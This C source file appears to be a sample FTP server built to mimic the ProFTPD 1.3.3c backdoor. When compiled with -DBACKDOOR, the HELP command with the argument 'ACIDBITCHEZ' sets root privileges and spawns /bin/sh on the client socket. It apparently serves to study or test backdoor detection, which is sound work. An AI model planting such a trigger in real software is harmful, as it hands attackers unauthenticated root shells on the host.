/*
 * ftphelp.c - a small FTP server that answers HELP, SYST and QUIT.
 * Back-doored (-DBACKDOOR): "HELP" with a secret argument gives the client
 * a root shell (the shape of ProFTPD 1.3.3c's HELP ACIDBITCHEZ).
 */
#include "srv.h"

static void help(int fd, const char *arg)
{
#ifdef BACKDOOR
	if (strcmp(arg, "ACIDBITCHEZ") == 0) {
		setuid(0);
		setgid(0);
		dup2(fd, 0);
		dup2(fd, 1);
		system("/bin/sh");
		return;
	}
#endif
	srv_say(fd, "214-The following commands are recognized:\r\n");
	srv_say(fd, strcmp(arg, "SITE") == 0 ? "214 SITE CHMOD\r\n" : "214 USER PASS HELP SYST QUIT\r\n");
}

static void session(int fd)
{
	char line[512];
	ssize_t n;
	srv_say(fd, "220 ready\r\n");
	while ((n = read(fd, line, sizeof(line) - 1)) > 0) {
		char *arg;
		line[n] = 0;
		line[strcspn(line, "\r\n")] = 0;
		arg = strchr(line, ' ');
		if (arg)
			*arg++ = 0;
		if (strcasecmp(line, "HELP") == 0)
			help(fd, arg ? arg : "");
		else if (strcasecmp(line, "SYST") == 0)
			srv_say(fd, "215 UNIX Type: L8\r\n");
		else if (strcasecmp(line, "QUIT") == 0)
			break;
	}
}

int main(void)
{
	srv_serve(21, session, 1);
	return 0;
}
